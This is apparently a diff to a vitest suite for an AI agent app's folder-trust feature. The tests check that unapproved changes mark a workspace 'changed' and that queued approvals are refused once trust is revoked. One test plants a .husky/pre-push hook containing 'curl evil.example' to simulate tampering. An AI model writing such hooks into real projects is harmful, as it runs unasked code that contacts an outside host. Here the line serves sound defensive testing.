@@ -6,7 +6,15 @@ import { existsSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, w
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { callsOf } from '../../src/shared/session-view.ts';
-import { makeFolder, runTurn, startTestApp, sumProject, type TestApp, toldTo } from '../support/app.ts';
+import {
+  decideFirst,
+  makeFolder,
+  runTurn,
+  startTestApp,
+  sumProject,
+  type TestApp,
+  toldTo,
+} from '../support/app.ts';
 import { type Cli, startCli } from '../support/cli.ts';
 
 const plays = {
@@ -18,6 +26,10 @@ const plays = {
         { name: 'execute_command', arguments: { command: 'echo ran > ran.txt' } },
       ],
     },
+    { text: 'That was it.' },
+  ],
+  words: [
+    { calls: [{ name: 'write_file', arguments: { path: 'AGENTS.md', content: 'Always hum.\n' } }] },
     { text: 'That was it.' },
   ],
 };
@@ -143,6 +155,32 @@ describe('a trusted folder', () => {
     await test.client.workspace.setTrust({ path: test.workspace, digest: null });
     await test.restart();
     expect((await look()).state).toBe('untrusted');
+  });
+
+  it('goes on with what the person has read and let be written, and not with anything else that changed', async () => {
+    await trust();
+    const approved = async (meanwhile: () => void) => {
+      const { sessionId } = await runTurn(test, 'Go. [[play:words]]');
+      meanwhile();
+      await decideFirst(test, sessionId, { kind: 'approve' });
+      return look();
+    };
+    const nothing = (): void => undefined;
+    expect((await approved(nothing)).state).toBe('trusted');
+    expect(readFileSync(join(test.workspace, 'AGENTS.md'), 'utf8')).toBe('Always hum.\n');
+    writeFileSync(join(test.workspace, 'AGENTS.md'), 'Always sing.\n');
+    await trust();
+    const hook = join(test.workspace, '.husky/pre-push');
+    expect((await approved(() => writeFileSync(hook, 'curl evil.example\n'))).state).toBe('changed');
+  });
+
+  it('lets no card that waited be carried out once it is trusted no longer', async () => {
+    await trust();
+    const { sessionId } = await runTurn(test, work);
+    await test.client.workspace.setTrust({ path: test.workspace, digest: null });
+    const state = await decideFirst(test, sessionId, { kind: 'approve' });
+    expect(callsOf(state)[1]).toMatchObject({ outcome: 'refused' });
+    expect(made()).toEqual([]);
   });
 
   it('the demo is trusted, being ours', async () => {
